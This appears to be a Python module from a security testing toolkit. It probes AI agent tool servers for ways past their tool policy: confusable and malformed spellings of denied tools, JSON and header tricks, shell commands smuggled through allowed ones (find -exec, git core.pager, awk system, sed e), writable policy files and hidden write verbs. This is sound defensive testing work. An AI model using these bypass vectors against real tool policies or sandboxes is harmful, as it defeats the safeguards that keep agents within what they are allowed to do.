"""T-POL-001/002/003: policy bypass (CWE-863, CWE-184) and policy hot-reload."""

from __future__ import annotations

import json
import os
import re
import time
import tomllib
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, excerpt, new_evidence, register, take
from attacks.command import _exists
from attacks.mutate import mutations
from toolkit.core.model import Finding, Severity
from toolkit.core.transport import Prepared, Reply

KNOWN_TOOLS = (
    "browser.fetch",
    "file.delete",
    "shell.exec",
    "file.write",
    "process.kill",
    "net.request",
)


def denied_tools(ctx: AttackContext) -> list[str]:
    pol = ctx.contract.policy
    allowed = set(pol.allowed_tools)
    named = list(pol.denied_tools)
    return named or [t for t in KNOWN_TOOLS if t not in allowed]


def name_variants(tool: str) -> Iterator[tuple[str, str]]:
    """(variant, why) spellings a normalising dispatcher may map back to ``tool``."""
    yield tool.upper(), "upper case"
    yield tool[:1].upper() + tool[1:], "capitalised"
    yield tool + " ", "trailing space"
    yield " " + tool, "leading space"
    yield tool + "\t", "trailing tab"
    yield tool + "\x00", "trailing NUL"
    yield tool.replace(".", "\u200b.", 1), "zero-width space"
    yield "".join(chr(0xFEE0 + ord(c)) if "!" <= c <= "~" else c for c in tool), "fullwidth (NFKC)"
    yield tool.replace("e", "\u0435"), "Cyrillic confusable e"
    yield tool.replace(".", "/"), "path-like with slash"
    yield "./" + tool, "path-like with ./"
    yield tool.replace(".", "_"), "underscore separator"
    yield (
        tool.replace("i", "\u0131") if "i" in tool else tool.replace("o", "\u043e"),
        "dotless i / Cyrillic o",
    )


class _PolicyBase:
    def judge(self, ctx: AttackContext, target: Target) -> tuple[Prepared, Reply, Reply] | None:
        """Denied-tool and unknown-tool replies; None when the surface cannot tell them apart."""
        denied = denied_tools(ctx)
        if not denied:
            target.notes.append("policy: no denied tool known; set [policy].denied_tools")
            return None
        prepared = target.deliver.prepare(denied[0])
        deny = target.send(None, prepared=prepared)
        unknown = target.send("toolkit-no-such-tool-" + ctx.canaries.token())
        if deny.ok or unknown.ok:
            target.notes.append(
                f"policy: denied tool {denied[0]!r} was not refused (HTTP {deny.status}); "
                "is it really denied?"
            )
        return prepared, deny, unknown


def _bypassed(reply: Reply, deny: Reply) -> bool:
    return reply.ok and not deny.ok


@register
class ToolPolicyBypass:
    """Tool policy bypass (CWE-863).

    For tool surfaces: each denied tool (``[policy].denied_tools``, or well-known tool
    names not in ``allowed_tools``) in other case, as Unicode confusables and NFKC forms,
    with whitespace or control characters, or path-like; then structural tricks on the
    JSON body: duplicate keys (allowed first, denied last), arrays where a string is
    expected, client-supplied policy fields, method-override headers and parameter
    pollution. The oracle: the canonical denied name is refused, the variant succeeds.
    """

    spec = AttackSpec(
        "T-POL-001",
        "policy",
        "Denied tool reachable through another spelling or shape",
        863,
        Severity.HIGH,
        ("tool",),
    )

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        base = _PolicyBase().judge(ctx, target)
        if base is None:
            return
        prepared, deny, _ = base
        for tool in denied_tools(ctx)[:2]:
            variants = list(name_variants(tool))
            if ctx.budget == "deep":
                variants += [(m, "seeded mutation") for m in mutations(tool, ctx.seed, 12)]
            for variant, why in take(variants, ctx.limit):
                reply = target.send(variant)
                ctx.seen(self.spec.id, target, variant, reply)
                if _bypassed(reply, deny):
                    yield ctx.finding(
                        self.spec,
                        target,
                        "tool",
                        variant,
                        reply,
                        f"{why}: denied tool {tool!r} ran as {variant!r}: HTTP {reply.status} "
                        f"{excerpt(reply.text, '')[:120]}",
                        f"policy:{why}",
                    )
        yield from self._structural(ctx, target, prepared, deny)

    def _structural(
        self, ctx: AttackContext, target: Target, p: Prepared, deny: Reply
    ) -> Iterator[Finding]:
        denied = denied_tools(ctx)[0]
        allowed = (ctx.contract.policy.allowed_tools or ("file.read",))[0]
        body = _json_body(p)
        if body is None:
            return
        key = next((k for k, v in body.items() if v == denied), None)
        tricks: list[tuple[str, bytes, dict[str, str], str]] = []
        if key is not None:
            raw = json.dumps(body)
            dup = raw.replace(
                json.dumps(key) + ": " + json.dumps(denied),
                f"{json.dumps(key)}: {json.dumps(allowed)}, {json.dumps(key)}: "
                f"{json.dumps(denied)}",
                1,
            )
            tricks.append(("duplicate JSON key, denied value last", dup.encode(), {}, p.sign_path))
            tricks.append(("array where a string is expected",
                           json.dumps({**body, key: [denied]}).encode(), {}, p.sign_path))
        for field_name, value in (("policy", {"allowed_tools": [denied]}), ("allowed", True),
                                  ("override", True), ("bypass_policy", True)):
            tricks.append((f"client-supplied {field_name!r} field",
                           json.dumps({**body, field_name: value}).encode(), {}, p.sign_path))
        tricks.append(
            (
                "X-HTTP-Method-Override header",
                p.body,
                {"X-HTTP-Method-Override": "GET"},
                p.sign_path,
            )
        )
        sep = "&" if "?" in p.sign_path else "?"
        tricks.append(
            ("parameter pollution", p.body, {}, f"{p.sign_path}{sep}tool={allowed}&tool={denied}")
        )
        for why, data, extra, path in tricks:
            prepared = Prepared(
                p.method, p.url, path.encode("latin-1"), {**p.headers, **extra}, data, path
            )
            reply = target.send(None, prepared=prepared)
            ctx.seen(self.spec.id, target, why, reply)
            if _bypassed(reply, deny):
                yield ctx.finding(
                    self.spec,
                    target,
                    "tool",
                    data.decode("utf-8", "replace"),
                    reply,
                    f"{why}: denied tool {denied!r} ran: HTTP {reply.status}",
                    f"policy:{why}",
                )


def _json_body(p: Prepared) -> dict[str, Any] | None:
    try:
        body = json.loads(p.body or b"null")
    except ValueError:
        return None
    return body if isinstance(body, dict) else None


@register
class CommandSmuggling:
    """Commands outside the allowlist smuggled through allowed ones (CWE-184).

    For argv and command surfaces: ``find -exec`` (also terminated by ``{} +`` and
    ``-execdir``, with no operator token), ``find -fprintf``, ``git -c``, ``xargs``,
    ``env``, awk ``system``, sed ``e``, pipes inside argv and redirections. Computed oracles: an
    arithmetic product a shell must compute, or a side-effect file in the toolkit's
    private folder.
    """

    spec = AttackSpec(
        "T-POL-002",
        "smuggle",
        "Disallowed command smuggled through an allowed one",
        184,
        Severity.CRITICAL,
        ("argv", "command"),
    )

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        cls = "argv" if "argv" in target.surface.classes else "command"
        rng = ctx.rng("smuggle")
        a, b = rng.randint(1000, 9999), rng.randint(1000, 9999)
        side_dir = ctx.canaries.work / "side"
        side_dir.mkdir(parents=True, exist_ok=True)
        for argv, why in take(self._corpus(ctx, a, b, side_dir), ctx.limit):
            side = next((x for x in argv if str(side_dir) in x), None)
            side_path = side.split()[-1] if side else None
            payload: Any = argv if cls == "argv" else " ".join(_q(x) for x in argv)
            reply = target.send(payload)
            ctx.seen(self.spec.id, target, payload, reply)
            tok = new_evidence(reply, [str(a * b)], target.baseline, payload)
            if tok or (side_path and _exists(side_path)):
                what = f"product {tok} computed" if tok else "side-effect file created"
                yield ctx.finding(
                    self.spec, target, cls, payload, reply, f"{why}: {what}", f"smuggle:{why}"
                )

    def _corpus(
        self, ctx: AttackContext, a: int, b: int, side_dir: Path
    ) -> Iterator[tuple[list[str], str]]:
        m = f"echo $(({a}*{b}))"

        def t() -> str:
            return str(side_dir / f"smuggle-{ctx.canaries.token()}")
        allowed = ctx.contract.policy.allowed_commands or ("echo",)
        first = "echo" if "echo" in allowed else allowed[0]
        yield [first, "x", "|", "sh", "-c", m], "pipe inside argv"
        yield [first, "x", ">", t()], "redirection inside argv"
        yield ["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", m, ";"], "find -exec"
        # the same vectors with no argv element that is a shell operator (';'), for servers
        # that refuse operator tokens but not what they stand for
        yield ["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", m, "{}", "+"], "find -exec +"
        yield (["find", ".", "-maxdepth", "0", "-execdir", "sh", "-c", m, "{}", "+"],
               "find -execdir +")
        yield ["find", ".", "-maxdepth", "0", "-fprintf", t(), "x"], "find -fprintf (writes)"
        yield ["git", "-c", f"core.pager=sh -c '{m}'", "log", "-1"], "git -c core.pager"
        yield ["xargs", "sh", "-c", m], "xargs"
        yield ["env", "sh", "-c", m], "env wrapper"
        yield ["awk", f"BEGIN{{system(\"{m}\")}}"], "awk system()"
        yield ["sed", "-n", f"1e {m}", "/etc/hostname"], "sed e command"
        yield ["sh", "-c", m], "shell directly"
        yield [f"/bin/{first}", "x;" + m], "absolute path to an allowed name"


def _q(text: str) -> str:
    import shlex

    return shlex.quote(text)


@register
class PolicyHotReload:
    """Policy hot-reload and policy-file integrity (seed Gate 3b).

    Denies an allowed tool in the target's policy file (``[policy].file``) and checks it
    is refused within ``reload_within_s``; the file is always restored. Then, on every
    surface that writes, tries to write the policy file itself (absolute and relative
    paths): no surface may change it.
    """

    spec = AttackSpec(
        "T-POL-003",
        "policy-reload",
        "Policy change not enforced in time, or policy writable",
        863,
        Severity.MEDIUM,
        ("tool", "path"),
    )

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        pol = ctx.contract.policy
        if pol.file is None:
            target.notes.append("policy-reload: no [policy].file in the contract")
            return
        path = ctx.contract.resolve(pol.file)
        if not path.is_file():
            target.notes.append(f"policy-reload: policy file {path} not found")
            return
        if "tool" in target.surface.classes:
            yield from self._reload(ctx, target, path, float(pol.reload_within_s))
        if target.surface.get("writes", False):
            yield from self._write_policy(ctx, target, path)

    def _reload(
        self, ctx: AttackContext, target: Target, path: Path, limit: float
    ) -> Iterator[Finding]:
        original = path.read_bytes()
        try:
            allowed = list(tomllib.loads(original.decode()).get("allowed_tools", []))
        except (tomllib.TOMLDecodeError, UnicodeDecodeError):
            target.notes.append(f"policy-reload: {path} is not TOML this attack can edit")
            return
        probe_tool = next((t for t in allowed if target.send(t).ok), None)
        if probe_tool is None:
            target.notes.append("policy-reload: no allowed tool succeeds on this surface")
            return
        remaining = [t for t in allowed if t != probe_tool]
        try:
            text = original.decode()
            new = re.sub(
                r"(?m)^allowed_tools\s*=.*$", "allowed_tools = " + json.dumps(remaining), text
            )
            path.write_text(new)
            t0 = time.monotonic()
            while True:
                reply = target.send(probe_tool)
                if not reply.ok:
                    ctx.seen(self.spec.id, target, probe_tool, reply)
                    break
                if time.monotonic() - t0 > limit:
                    yield ctx.finding(
                        self.spec,
                        target,
                        "tool",
                        probe_tool,
                        reply,
                        f"tool {probe_tool!r} removed from {path.name} still ran after {limit:g} s",
                        "policy:reload",
                    )
                    break
                time.sleep(0.25)
        finally:
            path.write_bytes(original)
            os.utime(path)

    def _write_policy(self, ctx: AttackContext, target: Target, path: Path) -> Iterator[Finding]:
        original = path.read_bytes()
        box = target.surface.sandbox
        candidates = [str(path)]
        if box is not None:
            candidates.append(os.path.relpath(path, box))
        try:
            for cand in candidates:
                reply = target.send(cand)
                ctx.seen(self.spec.id, target, cand, reply)
                if path.read_bytes() != original:
                    yield ctx.finding(
                        self.spec,
                        target,
                        "path",
                        cand,
                        reply,
                        f"the policy file {path.name} was overwritten through this surface",
                        "policy:file-writable",
                    )
                    break
        finally:
            if path.read_bytes() != original:
                path.write_bytes(original)



READ_VERBS = (
    "get",
    "describe",
    "logs",
    "list",
    "read",
    "show",
    "view",
    "explain",
    "status",
    "context",
    "search",
)
WRITE_VERBS = (
    "delete",
    "apply",
    "create",
    "exec",
    "patch",
    "scale",
    "write",
    "run",
    "remove",
    "update",
    "edit",
)
REFUSAL = re.compile(
    r"not\s+allowed|denied|forbidden|refus|read[\s_-]?only|not\s+permitted|disabled|unknown|"
    r"not\s+found|no\s+such|unauthori[sz]ed|policy|blocked|not\s+available|invalid\s+tool",
    re.IGNORECASE,
)


def dispatch_candidates(ctx: AttackContext, target: Target) -> list[str]:
    """Denied tool names to call directly: named, listed-but-not-allowed, and write verbs of
    allowed names.
    """
    pol = ctx.contract.policy
    allowed = [str(t) for t in pol.allowed_tools]
    out = [str(t) for t in pol.denied_tools]
    out += [str(t) for t in getattr(target.deliver, "tool_names", []) if t not in allowed]
    for name in allowed:
        parts = re.split(r"([_.-])", name)
        for i, part in enumerate(parts):
            if part.lower() in READ_VERBS:
                out += ["".join(parts[:i] + [verb] + parts[i + 1:]) for verb in WRITE_VERBS]
    out += list(KNOWN_TOOLS)
    seen: list[str] = []
    for t in out:
        if t not in allowed and t not in seen:
            seen.append(t)
    return seen


def shape(reply: Reply, name: str) -> str:
    return f"{reply.status} {reply.text.replace(name, '<tool>')[:200]}"


@register
class DeniedToolDispatched:
    """Denied tool dispatched (CWE-863): a tool outside the policy runs when called by name.

    A read-only or allow-listed mode often only hides tools from the listing. Each denied
    name (``[policy].denied_tools``, tools the server lists that are not allowed, and the
    write verbs of allowed names: ``kubectl_get`` -> ``kubectl_delete``, ``kubectl_apply``,
    ...) is called directly, next to a name no server has. A refused tool is answered like
    the unknown one (same reply once the name is blanked out) or in refusal words; a reply
    of another shape, without refusal words, means the call was dispatched.
    """

    spec = AttackSpec("T-POL-004", "policy", "Denied tool dispatched when called by name", 863,
                      Severity.HIGH, ("tool",))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        unknown_name = "toolkit-no-such-tool-" + ctx.canaries.token()
        unknown = target.send(unknown_name)
        ctx.seen(self.spec.id, target, unknown_name, unknown)
        if unknown.ok:
            target.notes.append(
                "policy: an unknown tool name was accepted; denied calls cannot be judged"
            )
            return
        refused_shape = shape(unknown, unknown_name)
        for name in take(dispatch_candidates(ctx, target), ctx.limit):
            reply = target.send(name)
            ctx.seen(self.spec.id, target, name, reply)
            if reply.status is None or reply.status in (401, 403, 404):
                continue
            if shape(reply, name) == refused_shape or REFUSAL.search(reply.text.replace(name, "")):
                continue
            yield ctx.finding(
                self.spec,
                target,
                "tool",
                name,
                reply,
                f"denied tool {name!r} was dispatched (HTTP {reply.status}), not refused like an "
                f"unknown tool: {excerpt(reply.text, '')[:160]}",
                f"dispatch:{name}",
            )
